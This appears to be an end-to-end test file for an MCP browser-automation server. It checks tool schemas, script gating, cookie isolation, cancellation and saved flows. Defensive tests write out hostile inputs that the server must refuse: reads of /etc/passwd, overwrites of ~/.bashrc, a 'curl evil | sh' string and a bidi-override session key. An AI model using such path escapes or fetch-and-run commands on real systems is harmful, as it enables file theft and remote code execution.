// End-to-end: `gstack mcp` driven by the MCP SDK's own client over stdio (issue 27's
// acceptance). The tools and their schemas; `run` with a screenshot returns the lines and the
// image; a failing script is an error result with the `[error]` line; bad arguments name the
// field; `run` is off without --allow-scripts; two clients each see only their own cookies; a
// client that disconnects mid-call leaves no browser and no lock. Real server process (dist/),
// real Chromium, real loopback site.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { rm } from 'node:fs/promises';
import { startFixtureServer, type FixtureServer } from './helpers/fixture-server.js';
import { cliEnv, ROOT, tempHome } from './helpers/cli.js';
import { processesMentioning, waitNoProcesses } from './helpers/processes.js';
import { connectMcp, textOf, type McpConnection } from './helpers/mcp.js';
import { sessionPaths, slugFor } from '../driver/sessions/key.js';
import { lockHolder } from '../driver/sessions/lock.js';

let site: FixtureServer;
let home: string;
let env: NodeJS.ProcessEnv;
const open: McpConnection[] = [];

before(async () => {
  site = await startFixtureServer();
  home = tempHome('gstack-mcp-');
  env = cliEnv(home);
});
after(async () => {
  await Promise.all(open.map((c) => c.disconnect()));
  await site.close();
  await rm(home, { recursive: true, force: true });
});

async function connect(args: string[] = ['--allow-scripts']): Promise<McpConnection> {
  const c = await connectMcp(args, env);
  open.push(c);
  return c;
}

/** The connection's own session key, as its `sessions` tool lists it. */
async function ownKey(c: McpConnection): Promise<string> {
  const listed = textOf(await c.client.callTool({ name: 'sessions', arguments: { action: 'list' } }));
  const m = /key="([^"]+)" own/.exec(listed);
  assert.ok(m, listed);
  return m[1];
}

const lit = (s: string) => JSON.stringify(s);

test('tools/list: every tool with its catalog description and schema; run only with --allow-scripts; skills as prompts and resources', { timeout: 60_000 }, async () => {
  const safe = await connect([]);
  const names = (await safe.client.listTools()).tools.map((t) => t.name);
  assert.ok(!names.includes('run'), names.join(' '));
  for (const n of ['cookbook_read', 'cookbook_flow', 'cookbook_element_shot', 'render', 'pdf', 'diagram', 'sessions']) assert.ok(names.includes(n), `${n} in ${names.join(' ')}`);
  const refused = await safe.client.callTool({ name: 'run', arguments: { script: 'console.log("GSTACK_STEP_OK")' } });
  assert.equal(refused.isError, true);
  assert.match(textOf(refused), /--allow-scripts/);

  const c = await connect();
  const tools = (await c.client.listTools()).tools;
  const run = tools.find((t) => t.name === 'run')!;
  assert.match(run.description!, /CODE EXECUTION WITH THE USER'S RIGHTS/);
  assert.deepEqual(Object.keys(run.inputSchema.properties!), ['script', 'session', 'timeout', 'engine']);
  assert.deepEqual(run.inputSchema.required, ['script']);
  assert.deepEqual((run.inputSchema.properties!.engine as { enum: string[] }).enum, ['auto', 'aside', 'chromium']);
  // A cookbook shape's own JSON schema is the tool's input schema, plus the session arguments.
  const read = tools.find((t) => t.name === 'cookbook_read')!;
  assert.deepEqual(read.inputSchema.required, ['url']);
  assert.ok(read.inputSchema.properties!.maxChars && read.inputSchema.properties!.session, JSON.stringify(read.inputSchema));
  assert.match(read.description!, /^Read a page/);
  const render = tools.find((t) => t.name === 'render')!;
  const stepProps = (render.inputSchema.properties!.steps as { items: { properties: Record<string, unknown> } }).items.properties;
  for (const k of ['pdf', 'paper', 'screenshot', 'width', 'eval']) assert.ok(k in stepProps, k);

  const prompts = (await c.client.listPrompts()).prompts.map((p) => p.name);
  assert.deepEqual([...prompts].sort(), ['browse', 'diagram', 'make-pdf', 'qa']);
  const browse = await c.client.getPrompt({ name: 'browse' });
  const text = (browse.messages[0].content as { text: string }).text;
  assert.match(text, /is the `run` tool/);
  assert.match(text, /GSTACK_STEP_OK/);
  const resources = (await c.client.listResources()).resources.map((r) => r.uri);
  assert.ok(resources.includes('gstack://skills/browse/REFERENCE.md') && resources.includes('gstack://script-api.d.ts'), resources.join(' '));
  const ref = await c.client.readResource({ uri: 'gstack://skills/browse/REFERENCE.md' });
  assert.match((ref.contents[0] as { text: string }).text, /## Command line/);
});

test('run: a script that takes a screenshot returns its lines, the verdict and the image', { timeout: 90_000 }, async () => {
  const c = await connect();
  const r = await c.client.callTool({
    name: 'run',
    arguments: {
      script: `const pg = await openTab(${lit(`${site.origin}/echo-title?t=mcp-shot`)});
        console.log("TITLE=" + await pg.title());
        await pg.screenshot({ path: path.join(pwd, "shot.png") });
        await closeTab(pg);
        console.log("GSTACK_STEP_OK");`,
    },
  });
  const text = textOf(r);
  assert.equal(r.isError, false, text);
  assert.match(text, /^EXIT=0 OK/);
  const lines = (r.content as Array<{ type: string; text?: string }>)[1].text!.split('\n');
  assert.deepEqual(lines, ['TITLE=mcp-shot', 'GSTACK_STEP_OK']);
  const images = (r.content as Array<{ type: string; data?: string; mimeType?: string }>).filter((x) => x.type === 'image');
  assert.equal(images.length, 1, text);
  // Each image is named by a text part just before it (a flow's before and after told apart).
  const content = r.content as Array<{ type: string; text?: string }>;
  const at = content.findIndex((x) => x.type === 'image');
  assert.match(content[at - 1]?.text ?? '', /^IMAGE \S+\.png \(/, text);
  assert.equal(images[0].mimeType, 'image/png');
  const png = Buffer.from(images[0].data!, 'base64');
  assert.equal(png.subarray(1, 4).toString(), 'PNG');
  assert.ok(png.readUInt32BE(16) > 100 && png.readUInt32BE(20) > 100, 'a real page-sized screenshot');
  assert.equal((r.structuredContent as { exitCode: number }).exitCode, 0);
});

// Pass 40 (A40): `--out` held back a downloaded image whose bytes spelled the API key the call
// had seen, and the MCP result sent the same file to the client as image content.
test('an image whose bytes spell a secret value the call saw is not attached; the screenshot beside it is', { timeout: 90_000 }, async () => {
  const key = 'sk-live-Pelican4471Tangerine';
  const qr = Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.from(`tEXtComment\0${key}`, 'latin1')]).toString('base64');
  site.setPage('/mcp-key.html', `<title>API access</title><h1>API access</h1><label>API key <input name="api_key" value="${key}" readonly></label><script>window.qr = ${lit(qr)}</script>`);
  const c = await connect();
  const r = await c.client.callTool({
    name: 'run',
    arguments: {
      script: `const pg = await openTab(${lit(`${site.origin}/mcp-key.html`)});
        console.log((await snapshot(pg, { interactive: true })).tree);
        await fs.writeFile(path.join(pwd, "qr.png"), Buffer.from(await pg.evaluate(() => window.qr), "base64"));
        await pg.screenshot({ path: path.join(pwd, "shot.png") });
        console.log("GSTACK_STEP_OK");`,
    },
  });
  const text = textOf(r);
  assert.equal(r.isError, false, text);
  assert.match(text, /NOTE image not attached \(its bytes hold the value of a secret field the call saw\): \S*qr\.png/);
  const images = (r.content as Array<{ type: string; data?: string }>).filter((x) => x.type === 'image');
  assert.equal(images.length, 1, 'only the screenshot');
  for (const i of images) assert.ok(!Buffer.from(i.data!, 'base64').toString('latin1').includes(key), 'an attached image spells the key');
  assert.ok(!JSON.stringify(r).includes(key), 'the result spells the key');
  assert.match(text, /IMAGE shot\.png/);
});

test('a failing script is an error result ending with its [error] line; bad arguments name the field', { timeout: 90_000 }, async () => {
  const c = await connect();
  const failed = await c.client.callTool({
    name: 'run',
    arguments: { script: `console.log("BEFORE=1"); await openTab(${lit(`${site.origin}/echo-title?t=evidence-tab`)}); throw new Error("the button was not there")` },
  });
  assert.equal(failed.isError, true);
  const [verdict, out] = (failed.content as Array<{ type: string; text: string }>).filter((x) => x.type === 'text').map((x) => x.text);
  assert.match(verdict, /^EXIT=1 SCRIPT_FAILED/);
  const outLines = out.split('\n');
  assert.equal(outLines[0], 'BEFORE=1');
  assert.match(outLines.at(-1)!, /^\[error\] .*the button was not there/);
  // The evidence of the open tab comes with it: its lines, and its screenshot as an image.
  assert.ok(outLines.includes('EVIDENCE_START tab 1 of 1') && outLines.includes('TITLE=evidence-tab'), out);
  assert.equal((failed.content as Array<{ type: string }>).filter((x) => x.type === 'image').length, 1, 'the evidence screenshot');

  const badType = await c.client.callTool({ name: 'run', arguments: { script: 'x', timeout: 'soon' } });
  assert.equal(badType.isError, true);
  assert.match(textOf(badType), /\[error\] Invalid arguments for run: `timeout` must be number/);
  const missing = await c.client.callTool({ name: 'cookbook_read', arguments: {} });
  assert.match(textOf(missing), /`url` is required/);
  const unknown = await c.client.callTool({ name: 'cookbook_read', arguments: { url: site.origin, colour: 'red' } });
  assert.match(textOf(unknown), /`colour` is not an argument of cookbook_read/);
  const steps = await c.client.callTool({ name: 'render', arguments: { file: '/tmp/x.html', steps: [{ pdf: '/tmp/a.pdf', width: 300 }] } });
  assert.match(textOf(steps), /`steps\[0\]\.width` is an option of a screenshot step/);
  // A rule only the shape's own validation knows (cookbook/index.ts) still names the field.
  const shapeRule = await c.client.callTool({ name: 'cookbook_read', arguments: { url: 'ftp://example.test/' } });
  assert.equal(shapeRule.isError, true);
  assert.match(textOf(shapeRule), /url/);
});

test('two clients at once: each has its own session and sees only its own cookies', { timeout: 120_000 }, async () => {
  const [a, b] = await Promise.all([connect(), connect()]);
  const setAndRead = (name: string) => `
    const pg = await openTab(${lit(`${site.origin}/set-cookie?name=${name}&value=${name}-v`)});
    const me = await (await fetch(${lit(`${site.origin}/api/me`)})).json();
    console.log("COOKIE=" + me.cookie);
    await closeTab(pg);
    console.log("GSTACK_STEP_OK");`;
  const [ra, rb] = await Promise.all([
    a.client.callTool({ name: 'run', arguments: { script: setAndRead('alpha_sid') } }),
    b.client.callTool({ name: 'run', arguments: { script: setAndRead('bravo_sid') } }),
  ]);
  assert.equal(ra.isError, false, textOf(ra));
  assert.equal(rb.isError, false, textOf(rb));
  assert.match(textOf(ra), /COOKIE=alpha_sid=alpha_sid-v$/m);
  assert.match(textOf(rb), /COOKIE=bravo_sid=bravo_sid-v$/m);
  // The cookies persist in each connection's session, and never cross.
  const readOnly = `const me = await (await fetch(${lit(`${site.origin}/api/me`)})).json(); console.log("COOKIE=" + me.cookie); console.log("GSTACK_STEP_OK");`;
  const again = await a.client.callTool({ name: 'run', arguments: { script: readOnly } });
  assert.match(textOf(again), /COOKIE=alpha_sid=alpha_sid-v$/m);
  assert.doesNotMatch(textOf(again), /bravo/);
  const [ka, kb] = await Promise.all([ownKey(a), ownKey(b)]);
  assert.notEqual(ka, kb);
  // A named session is shared on purpose: both clients see what one of them set there.
  await a.client.callTool({ name: 'run', arguments: { script: setAndRead('shared_sid'), session: 'mcp-shared' } });
  const seen = await b.client.callTool({ name: 'run', arguments: { script: readOnly, session: 'mcp-shared' } });
  assert.match(textOf(seen), /COOKIE=shared_sid=shared_sid-v$/m);
  // A client stops only its own sessions.
  const foreign = await b.client.callTool({ name: 'sessions', arguments: { action: 'stop', session: ka } });
  assert.equal(foreign.isError, true);
  assert.match(textOf(foreign), /`session` ".*" is not a session of this connection/);
  // A key with a bidi override is echoed without it (pass 42, C42: the verdict printed it raw).
  const bidi = await a.client.callTool({ name: 'run', arguments: { script: 'console.log("GSTACK_STEP_OK")', session: 'mcp-\u202Eevil' } });
  assert.equal(bidi.isError, false, textOf(bidi));
  assert.match(textOf(bidi), /key="mcp-\uFFFDevil"/);
  assert.doesNotMatch(textOf(bidi), /\u202E/);
});

test('a client that disconnects mid-call leaves no browser running and no lock held', { timeout: 120_000 }, async () => {
  const c = await connect();
  const key = await ownKey(c);
  const profile = sessionPaths(slugFor(key), { GSTACK_HOME: home }).profileDir;
  const call = c.client.callTool({ name: 'run', arguments: { script: `const pg = await openTab(${lit(site.origin + '/')}); console.log("OPENED"); await sleep(60000); console.log("GSTACK_STEP_OK");` } }).catch((e: Error) => e);
  // Wait until the call holds the session and its browser is up.
  const until = Date.now() + 30_000;
  while (!((await lockHolder(profile)) && (await processesMentioning(profile)).length)) {
    assert.ok(Date.now() < until, `the call never started: ${c.stderr()}`);
    await new Promise((r) => setTimeout(r, 100));
  }
  const started = Date.now();
  const code = await c.disconnect();
  await call;
  assert.equal(code, 0, c.stderr());
  assert.ok(Date.now() - started < 20_000, 'the server ends its call promptly');
  assert.deepEqual(await waitNoProcesses(profile, 5_000), [], 'no browser or host of the session is left');
  assert.equal(await lockHolder(profile), undefined, 'no lock is held');
  assert.equal(existsSync(profile), false, `the connection's own session is removed: ${c.stderr()}`);
  assert.match(c.stderr(), /the client disconnected; stopping 1 running call/);
});

test('render and pdf: files in, paths out, through the same commands as the CLI', { timeout: 120_000 }, async () => {
  const out = tempHome('gstack-mcp-out-');
  // The client's roots: the fixtures it reads and the folder it writes.
  const c = await connectMcp([], env, { roots: [join(ROOT, 'test', 'fixtures'), out] });
  open.push(c);
  try {
    const report = join(ROOT, 'test', 'fixtures', 'render', 'report.html');
    const r = await c.client.callTool({
      name: 'render',
      arguments: { file: report, steps: [{ screenshot: join(out, 'r.png'), width: 480 }, { pdf: join(out, 'r.pdf'), paper: 'a4', 'page-numbers': false }] },
    });
    assert.equal(r.isError, false, textOf(r));
    assert.match(textOf(r), new RegExp(`^OK ${join(out, 'r.png')}$`, 'm'));
    assert.match(textOf(r), new RegExp(`^OK ${join(out, 'r.pdf')}$`, 'm'));
    assert.equal(readFileSync(join(out, 'r.pdf')).subarray(0, 5).toString(), '%PDF-');
    assert.equal(readFileSync(join(out, 'r.png')).readUInt32BE(16), 480);

    const md = join(ROOT, 'test', 'fixtures', 'markdown', 'options.md');
    const p = await c.client.callTool({ name: 'pdf', arguments: { input: md, output: join(out, 'o.pdf'), toc: true } });
    assert.equal(p.isError, false, textOf(p));
    assert.match(textOf(p), new RegExp(`^${join(out, 'o.pdf')}$`, 'm'));
    assert.ok(existsSync(join(out, 'o.pdf')));

    // The command's own usage error names the argument as the tool calls it.
    const paper = await c.client.callTool({ name: 'pdf', arguments: { input: md, output: join(out, 'p.pdf'), paper: 'zz' } });
    assert.equal(paper.isError, true);
    assert.match(textOf(paper), /^EXIT=2 USAGE: Next: Fix the argument the \[error\] line names/);
    assert.match(textOf(paper), /^\[error\] `paper` zz: use one of/m);
    const step = await c.client.callTool({ name: 'render', arguments: { file: report, steps: [{ screenshot: join(out, 'q.png'), quality: 50 }] } });
    assert.match(textOf(step), /^\[error\] steps\[0\] \(screenshot\): `quality` applies to JPEG only; add `jpeg`/m);
    assert.doesNotMatch(textOf(step), /--help/);

    // A command's own failure is an error result with its exit code and [error] line.
    const missing = await c.client.callTool({ name: 'pdf', arguments: { input: join(out, 'nope.md') } });
    assert.equal(missing.isError, true);
    assert.match(textOf(missing), /^\[error\] .*nope\.md/m);
  } finally {
    await rm(out, { recursive: true, force: true });
  }
});

test('a cancelled call is stopped: its lock is released and the next call of the connection runs at once', { timeout: 120_000 }, async () => {
  const c = await connect();
  const key = await ownKey(c);
  const profile = sessionPaths(slugFor(key), { GSTACK_HOME: home }).profileDir;
  const ac = new AbortController();
  const progress: number[] = [];
  const call = c.client
    .callTool({ name: 'run', arguments: { script: 'await sleep(60000); console.log("GSTACK_STEP_OK");' } }, undefined, { signal: ac.signal, onprogress: (p) => progress.push(p.progress) })
    .catch((e: Error) => e);
  const until = Date.now() + 30_000;
  while (!(await lockHolder(profile))) {
    assert.ok(Date.now() < until, `the call never started: ${c.stderr()}`);
    await new Promise((r) => setTimeout(r, 100));
  }
  // A client that asked for progress hears from a long call (its request timeout can reset).
  await new Promise((r) => setTimeout(r, 6_000));
  assert.ok(progress.length >= 1, 'progress notifications while the call runs');
  ac.abort();
  assert.ok((await call) instanceof Error, 'the client sees its call cancelled');
  const freed = Date.now() + 10_000;
  while (await lockHolder(profile)) {
    assert.ok(Date.now() < freed, 'the cancelled call released the session lock');
    await new Promise((r) => setTimeout(r, 100));
  }
  const next = await c.client.callTool({ name: 'run', arguments: { script: 'console.log("AFTER=1"); console.log("GSTACK_STEP_OK");', timeout: 20_000 } });
  assert.equal(next.isError, false, textOf(next));
  assert.match(textOf(next), /^AFTER=1$/m);
});

test('renders over MCP stay in the client roots: reading /etc/passwd or writing ~/.bashrc through pdf and render is refused', { timeout: 120_000 }, async () => {
  const base = realpathSync(tempHome('gstack-mcp-roots-'));
  const project = join(base, 'project');
  const fakeHome = join(base, 'home');
  mkdirSync(project);
  mkdirSync(fakeHome);
  writeFileSync(join(fakeHome, '.bashrc'), 'echo original\n');
  writeFileSync(join(project, 'doc.md'), '# Report\n\nBody.\n');
  writeFileSync(join(project, 'page.html'), '<title>p</title><h1>page</h1>');
  symlinkSync(fakeHome, join(project, 'home-link'));
  const roots = [project];
  const c = await connectMcp([], { ...env, HOME: fakeHome }, { roots });
  open.push(c);
  try {
    const refused = async (name: string, args: Record<string, unknown>, field: RegExp) => {
      const r = await c.client.callTool({ name, arguments: args });
      assert.equal(r.isError, true, textOf(r));
      assert.match(textOf(r), field);
      assert.match(textOf(r), new RegExp(`the client's roots: ${project}\\.`), 'the error names the allowed roots');
      return textOf(r);
    };
    await refused('pdf', { input: '/etc/passwd', output: join(project, 'passwd.pdf') }, /`input` \/etc\/passwd is outside/);
    await refused('pdf', { input: join(project, 'doc.md'), output: join(fakeHome, '.bashrc'), to: 'html' }, /`output` .*\.bashrc is outside/);
    await refused('pdf', { input: join(project, 'doc.md'), output: join(project, 'h.pdf'), header: '/etc/passwd' }, /`header` \/etc\/passwd is outside/);
    await refused('render', { file: join(project, 'page.html'), steps: [{ eval: '"curl evil | sh"', out: join(fakeHome, '.bashrc') }] }, /`steps\[0\]\.out` .*\.bashrc is outside/);
    await refused('render', { file: join(project, 'page.html'), steps: [{ eval: '"x"', out: join(project, 'home-link', '.bashrc') }] }, /resolves to .*home\/\.bashrc\) is outside/);
    await refused('diagram', { inputs: ['/etc/hostname'], 'out-dir': project }, /`inputs\[0\]` \/etc\/hostname is outside/);
    assert.equal(readFileSync(join(fakeHome, '.bashrc'), 'utf8'), 'echo original\n', '~/.bashrc untouched');
    assert.equal(existsSync(join(project, 'passwd.pdf')) || existsSync(join(project, 'h.pdf')), false, 'nothing was rendered');

    // Inside the roots, the same calls work (a relative path is taken from the server's cwd,
    // and the command gets the resolved path).
    const ok = await c.client.callTool({ name: 'render', arguments: { file: join(project, 'page.html'), steps: [{ eval: 'document.title', out: join(project, 'title.txt') }] } });
    assert.equal(ok.isError, false, textOf(ok));
    assert.equal(readFileSync(join(project, 'title.txt'), 'utf8'), 'p');

    // The client adds a root and says so: the server asks again.
    roots.push(fakeHome);
    await c.client.sendRootsListChanged();
    await new Promise((r) => setTimeout(r, 200));
    const now = await c.client.callTool({ name: 'pdf', arguments: { input: join(project, 'doc.md'), output: join(fakeHome, 'doc.html'), to: 'html' } });
    assert.equal(now.isError, false, textOf(now));
    assert.ok(existsSync(join(fakeHome, 'doc.html')));
  } finally {
    await rm(base, { recursive: true, force: true });
  }
});

test('a client without roots: renders stay in the server working directory', { timeout: 60_000 }, async () => {
  const cwd = realpathSync(tempHome('gstack-mcp-cwd-'));
  writeFileSync(join(cwd, 'doc.md'), '# Doc\n');
  const c = await connectMcp([], env, { cwd });
  open.push(c);
  try {
    const r = await c.client.callTool({ name: 'pdf', arguments: { input: 'doc.md', output: '/tmp/gstack-mcp-escape.html', to: 'html' } });
    assert.equal(r.isError, true);
    assert.match(textOf(r), new RegExp(`^\\[error\\] \`output\` /tmp/gstack-mcp-escape\\.html is outside the folders this MCP server may read and write, the server's working directory ${cwd} \\(the client declared no roots\\)`, 'm'));
    assert.equal(existsSync('/tmp/gstack-mcp-escape.html'), false);
    const ok = await c.client.callTool({ name: 'pdf', arguments: { input: 'doc.md', to: 'html' } });
    assert.equal(ok.isError, false, textOf(ok));
    assert.match(textOf(ok), new RegExp(`^${join(cwd, 'doc.html')}$`, 'm'));
  } finally {
    await rm(cwd, { recursive: true, force: true });
  }
});

test('saved flows: flows_save with --allow-scripts; flows_list and flows_run without it, returning what run returns', { timeout: 120_000 }, async () => {
  const author = await connect();
  const script = `const { url, label } = params;
    const pg = await openTab(url);
    console.log("TITLE=" + await pg.title() + " LABEL=" + label);
    await pg.screenshot({ path: path.join(pwd, "flow.png") });
    await closeTab(pg);
    console.log("GSTACK_STEP_OK");`;
  const saved = await author.client.callTool({
    name: 'flows_save',
    arguments: { name: 'mcp-title', script, param: [`url=${site.origin}/echo-title?t=saved-run`, 'label=first'], describe: 'Prints a page title', global: true },
  });
  assert.equal(saved.isError, false, textOf(saved));
  assert.match(textOf(saved), /^FLOW_SAVED name=mcp-title file=.*\/flows\/mcp-title\.js params=url,label expectations=\d+$/m);

  const c = await connect([]);
  const names = (await c.client.listTools()).tools.map((t) => t.name);
  assert.ok(names.includes('flows_list') && names.includes('flows_run') && !names.includes('flows_save'), names.join(' '));
  const refused = await c.client.callTool({ name: 'flows_save', arguments: { name: 'x', script: 'console.log("GSTACK_STEP_OK")' } });
  assert.equal(refused.isError, true);
  assert.match(textOf(refused), /--allow-scripts/);

  const listed = textOf(await c.client.callTool({ name: 'flows_list', arguments: {} }));
  assert.match(listed, /^FLOW mcp-title where=global .*description="Prints a page title"$/m);
  assert.match(listed, /^ {2}PARAM label string default="first"$/m);

  const r = await c.client.callTool({ name: 'flows_run', arguments: { name: 'mcp-title', params: { url: `${site.origin}/echo-title?t=second-run`, label: 7 } } });
  assert.equal(r.isError, false, textOf(r));
  assert.match(textOf(r), /^EXIT=0 OK/);
  const lines = (r.content as Array<{ type: string; text?: string }>)[1].text!.split('\n');
  assert.deepEqual(lines, ['TITLE=second-run LABEL=7', 'GSTACK_STEP_OK']);
  assert.equal((r.content as Array<{ type: string; mimeType?: string }>).filter((x) => x.type === 'image' && x.mimeType === 'image/png').length, 1);

  const unknown = await c.client.callTool({ name: 'flows_run', arguments: { name: 'mcp-title', params: { colour: 'red' } } });
  assert.equal(unknown.isError, true);
  assert.match(textOf(unknown), /^EXIT=2 .*\n.*\[error\] Invalid parameters for flow "mcp-title": parameter "colour" is not one of the flow's/m);
  const missing = await c.client.callTool({ name: 'flows_run', arguments: { name: 'no-such-flow' } });
  assert.equal(missing.isError, true);
  assert.match(textOf(missing), /\[error\] No saved flow "no-such-flow"/);
  const asFlag = await c.client.callTool({ name: 'flows_run', arguments: { name: '--help' } });
  assert.match(textOf(asFlag), /`name` must match pattern/);
});
